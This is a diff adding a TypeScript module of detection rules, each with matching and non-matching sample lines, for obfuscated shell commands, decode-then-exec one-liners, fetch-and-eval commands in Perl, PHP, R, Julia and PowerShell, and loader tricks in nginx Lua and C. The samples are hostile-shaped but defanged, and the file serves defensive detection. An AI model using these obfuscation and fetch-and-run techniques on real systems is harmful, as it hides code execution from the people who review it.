@@ -1,0 +1,77 @@
+import { ATTACKING_SCRIPT, FETCHED_CODE } from './rules.ts';
+import type { Row } from './script-row.ts';
+
+/** Commands that are not written as such, and programs of other languages within a line: nobody who reads it sees what runs. */
+export const SPELT_ROWS: readonly Row[] = [
+  {
+    rule: ATTACKING_SCRIPT,
+    // Codes of letters that a shell is handed.
+    pattern:
+      /\b(?:printf|echo\s+-\w*e\w*)\s+["']?(?:\\(?:x[0-9a-f]{2}|0?[0-7]{3})){4}[^\n|]{0,1000}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\bprintf\s+["']?\\{1,2}(?:x|0)?"?\$\w/i,
+    fires: [`printf '\\x74\\x72\\x75\\x65' | sh`, 'for c in 74 72; do x=$x$(printf "\\x$c"); done'],
+    quiet: [`printf '\\x1b[31mred\\x1b[0m' | tee log`, 'printf "%s\\n" "$x"'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    // A program whose path has a place for any letter, or that is cut out of a variable of the system's.
+    pattern:
+      /(?:^|[;&|(`]|\$\(|["']\s?)\s*\/(?:[\w?[\]*-]+\/)*[\w[\]*-]*\?[\w?[\]*-]*\s+\S|\$\{(?:PATH|HOME|SHELL|PWD|USER|BASH|LANG|OSTYPE|HOSTTYPE):\d{1,2}:\d\}/,
+    fires: ['/usr/bin/cur? -s x', '/???/b??h -c x', '${PATH:0:1}bin${PATH:0:1}sh'],
+    quiet: ['ls /data/shard-?.bin', 'echo ${PATH:0:20}', 'curl "https://example.org/x?y=1"'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    // Programs of a line that decode what they then run.
+    pattern:
+      /\b(?:python[\d.]*|perl|ruby|node|php)\b[^\n]*\s-\w*[cer]\b[^\n]*\b(?:system|exec|eval|popen|Popen|spawn)\b[^\n]{0,80}(?:b64decode|decode_base64|base64_decode|Buffer\.from|unhexlify|fromhex|\bpack\b|decompress)/,
+    fires: [
+      `python3 -c "import base64,os;os.system(base64.b64decode('dHJ1ZQ=='))"`,
+      `perl -MMIME::Base64 -e 'system(decode_base64("dHJ1ZQ=="))'`,
+    ],
+    quiet: [`python -c "import base64; print(base64.b64decode('dHJ1ZQ=='))"`],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /\beval\s*\(\s*(?:Buffer\.from|unescape|decodeURIComponent|String\.fromCharCode|base64_decode|gzinflate|parse\s*\([^\n]{0,80}(?:base64|rawToChar|chartr))/i,
+    fires: ["eval(Buffer.from('MQ==','base64').toString())", 'eval(parse(text = rawToChar(base64decode("MQ=="))))'],
+    quiet: ['const b = Buffer.from(x)', 'eval(parse(text = readLines(f)))'],
+  },
+  {
+    rule: FETCHED_CODE,
+    // Programs of a line, or of a script, that fetch what they then run.
+    pattern:
+      /\b(?:perl|ruby|php)\b[^\n]*\s-\w*[er]\b[^\n]*\beval\b[^\n]{0,80}\b(?:https?|ftp):|\bnode\b[^\n]*\s-e\b[^\n]*https?:[^\n]*\beval\s*\(|\beval[\s(]\s*(?:URI\.open|open-uri|file_get_contents)[\s(]+["']https?:|\bsource\s*\(\s*(?:url\s*\()?\s*["']https?:|\binclude\s*\(\s*download\s*\(|\brun\s*\(\s*pipeline\s*\(\s*`(?:curl|wget)\b|\bhttp get\b[^\n|]*\|\s*save\b[^\n;]*;\s*\^/,
+    fires: [
+      `perl -MLWP::Simple -e 'eval get("http://127.0.0.1:9/x")'`,
+      `php -r "eval(file_get_contents('http://127.0.0.1:9/x'));"`,
+      "source(url('http://127.0.0.1:9/x.R'))",
+      'include(download("http://127.0.0.1:9/x.jl"))',
+      'run(pipeline(`curl http://127.0.0.1:9/x`, `sh`))',
+    ],
+    quiet: ["read.csv(url('https://example.org/x.csv'))", 'include("model.jl")', "perl -pe 's#https://a#https://b#'"],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    // PowerShell: names out of letters' numbers, and what an alias of fetching brings.
+    pattern:
+      /\[char(?:\[\])?\]\s*\(?\s*\d{2,3}\b[^\n]{0,80}(?:-join|\+|%\s*\{)|\b(?:iex|invoke-expression)\b[^\n]{0,40}\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b|\bNet\.Sockets\.TCPClient\b[^\n]*\b(?:iex|invoke-expression)\b/i,
+    fires: [
+      "[char[]](73,69,88) -join '' | % { & $_ x }",
+      'iex (irm http://127.0.0.1:9/x)',
+      "$c=New-Object Net.Sockets.TCPClient('a',1); iex $d",
+    ],
+    quiet: ['[char]0x2713', "$c = New-Object Net.Sockets.TCPClient('localhost', 8000)", 'irm https://example.org/x'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    // A configuration of nginx whose Lua starts programs; a library of C that does when it is loaded.
+    pattern:
+      /_by_lua\w*\b[^\n]*\b(?:os\.execute|io\.popen)\b|__attribute__\s*\(\(\s*constructor[^\n]{0,80}\b(?:system|popen|exec[lv]p?)\s*\(/,
+    fires: [
+      "content_by_lua_block { os.execute('true') }",
+      '__attribute__((constructor)) void go() { system("true"); }',
+    ],
+    quiet: ['content_by_lua_block { ngx.say(1) }', '__attribute__((constructor)) void init() { table(); }'],
+  },
+];
